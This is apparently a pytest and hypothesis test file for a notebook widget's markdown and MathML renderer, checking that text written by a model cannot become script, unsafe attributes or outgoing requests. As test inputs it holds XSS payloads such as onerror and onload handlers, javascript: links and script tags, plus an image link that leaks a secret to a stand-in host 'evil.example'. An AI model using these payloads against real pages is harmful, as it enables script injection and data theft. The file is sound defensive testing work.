"""What a model writes never becomes an element, an attribute or a request of its own choice, at any prefix."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nbmastra.widgets.highlight import HIGHLIGHT_CLASSES
from nbmastra.widgets.markdown import MarkdownStream, escape, render_code, render_markdown
from nbmastra.widgets.markdown_html import Html
from nbmastra.widgets.mathml import MATH_ATTRIBUTES, MATH_TAGS, half_mathml, mathml
from tests.widgets.markdown_texts import ATTACKS, Reader, cuts, pieces, texts

_TAGS = set(
    "a blockquote br code div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul".split()
)
_CLASSES = {"nbm-md__scroll", "nbm-grid", "nbm-num", "nbm-center", *HIGHLIGHT_CLASSES}
_ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"class", "title"},
    "table": {"class"},
    "td": {"class"},
    "th": {"class", "scope"},
}


def check(html: str, *, snapshot: bool = False) -> Reader:
    """Only elements, attributes, classes and destinations of the allow-list."""
    reader = Reader(html)
    assert not reader.comments
    for tag, attributes in reader.elements:
        assert tag in _TAGS or (tag in MATH_TAGS and not snapshot)
        if snapshot:
            assert set(attributes) <= {"style", "href", "title", "target", "rel", "start"}
            assert not re.search(r"url|var\(|expression|:\s*fixed", attributes.get("style") or "")
        elif tag in MATH_TAGS:
            assert set(attributes) <= MATH_ATTRIBUTES
        else:
            assert set(attributes) <= _ATTRIBUTES.get(tag, set())
            assert set((attributes.get("class") or "").split()) <= _CLASSES
        if tag == "a":
            assert re.fullmatch(r"(?:https?://|mailto:)[^\s\x00-\x20]+", attributes["href"] or "", re.IGNORECASE)
            assert attributes["rel"] == "noopener noreferrer"
            assert attributes["target"] == "_blank"
    return reader


@pytest.mark.parametrize("attack", ATTACKS)
def test_B52_B53_no_prefix_of_an_attack_gets_through(attack: str) -> None:
    for before in ("", "- ", "> ", "a\n\n", "**x "):
        markdown = MarkdownStream()
        for character in before + attack + "\n\nend":
            markdown.feed(character)
            markdown.patches()
            check(markdown.blocks[-1] if markdown.blocks else "")
        markdown.close()
        check("".join(markdown.blocks))


@pytest.mark.parametrize("attack", ATTACKS)
def test_B52_B53_the_same_holds_for_what_is_saved(attack: str) -> None:
    for end in range(len(attack) + 1):
        check(render_markdown(attack[:end], snapshot=True), snapshot=True)


@settings(deadline=None, max_examples=60)
@given(parts=st.lists(st.one_of(st.sampled_from(ATTACKS), texts), max_size=6), sizes=cuts)
def test_no_mixture_gets_through_and_the_gate_changes_nothing(parts: list[str], sizes: list[int]) -> None:
    markdown = MarkdownStream()
    for piece in pieces("".join(parts), sizes):
        markdown.feed(piece)
        for block in markdown.blocks[-2:]:
            check(block)
    markdown.close()
    html = "".join(markdown.blocks)
    assert Html()._gate.clean(html) == html
    check(render_markdown("".join(parts), snapshot=True), snapshot=True)


@pytest.mark.parametrize(
    ("text", "shown", "href"),
    [
        ("![a](https://evil.example/p.png?q=SECRET)", "a (evil.example)", "https://evil.example/p.png?q=SECRET"),
        ("![](https://good.example@evil.example/)", "image (evil.example)", "https://good.example@evil.example/"),
        ("![a](//evil.example/x)", "a (evil.example)", None),
        ("![a](data:image/png;base64,AAAA)", "a (not shown)", None),
        ("![a *b*](plot.png)", "a b (not shown)", None),
        ("[![a](https://e.example/a.png)](https://ex.org/)", "a (e.example)", "https://ex.org/"),
        ("[x](javascript:alert(1))", "x", None),
        ("[x](src/config.py)", "x", None),
        ("[x](mailto:a@b.example)", "x", "mailto:a@b.example"),
        ("<b onclick=x>&lt;script&gt;</b>", "<b onclick=x><script></b>", None),
        ("std::vector<std::string>", "std::vector<std::string>", None),
        ("<javascript:alert(1)>", "<javascript:alert(1)>", None),
    ],
)
def test_B53_images_and_links_become_text_that_leads_nowhere_by_itself(text: str, shown: str, href: str | None) -> None:
    for snapshot in (False, True):
        reader = check(render_markdown(text, snapshot=snapshot), snapshot=snapshot)
        assert reader.text == shown
        assert [attributes.get("href") for tag, attributes in reader.elements if tag == "a"] == ([href] if href else [])


def test_a_destination_that_may_not_be_clicked_is_a_hint() -> None:
    assert render_markdown("[x](src/a.py)") == '<p><span title="src/a.py">x</span></p>'


@pytest.mark.parametrize("name", ["<script>1</script>", "<svg/onload=1>", "a\" onload='x'"])
def test_B52_names_and_errors_are_text(name: str) -> None:
    assert Reader(escape(name)).text == name
    assert Reader(f'<i title="{escape(name)}"></i>').elements == [("i", {"title": name})]
    assert Reader(render_code(name, "html")).text == name


_TEX = (
    "\\text{<img src=x onerror=alert(1)>}",
    "\\text{&lt;script&gt;&#x3c;script&#x3e;}",
    "\\mbox{$<b>$}",
    "<script>alert(1)</script>",
    "\\unicode{x3c}",
    "\\operatorname{a b}",
    "\\verb|<i>|",
)


@pytest.mark.parametrize("tex", _TEX)
def test_text_in_a_formula_is_text(tex: str) -> None:
    for end in range(len(tex) + 1):
        for html in (mathml(tex[:end], True), half_mathml(tex[:end], False)):
            assert html is None or {tag for tag, _ in Reader(html).elements} <= MATH_TAGS


@pytest.mark.parametrize(
    "tex",
    [
        "\\def\\x{\\x\\x}\\x",
        "\\newcommand{\\x}{\\y\\y}\\x",
        "\\href{javascript:alert(1)}{x}",
        "\\style{position:fixed}{x}",
        "\\class{nbm-btn}{x}",
        "\\hspace{-500em}x",
        "\\rule{99em}{99em}",
    ],
)
def test_a_formula_does_no_more_than_look_like_one(tex: str) -> None:
    assert mathml(tex, True) is None
    assert Reader(render_markdown(f"$${tex}$$", snapshot=True)).elements[1][0] == "code"


@pytest.mark.parametrize(
    ("tex", "half"),
    [
        ("{" * 3000, None),
        ("x" * 5000, None),
        ("a^b^c", None),
        ("\\frac", ""),
        ("a+\\frac", '<math display="inline"><mrow><mi>a</mi><mo>+</mo></mrow></math>'),
    ],
)
def test_a_formula_that_cannot_be_read_raises_nothing(tex: str, half: str | None) -> None:
    assert mathml(tex, True) is None
    assert half_mathml(tex, False) == half


def test_a_snapshot_has_literal_styles_and_no_class() -> None:
    text = "# a\n\n- b `c`\n\n| d |\n|--:|\n| e |\n\n> f\n\n```py\nimport g\n```\n\n***\n\n[h](https://ex.org)"
    html = render_markdown(text, snapshot=True)
    reader = check(html, snapshot=True)
    assert "text-align:right" in html
    assert "import g" in reader.text
    assert not re.search(r"class=|var\(|\d(?:ch|em)\b|overflow-wrap", html)


def test_a_snapshot_has_formulas_as_tex_and_dollars_that_no_formula_begins_with() -> None:
    html = render_markdown("$x<1$ costs $5 and $6, $$y$$ \\\\(z\\\\)", snapshot=True)
    dollar, backslash = "<span>$</span>", "<span>\\</span>"
    assert f"$x&lt;1$ costs {dollar}5 and {dollar}6, $$y$$ {backslash}(z{backslash})" in html
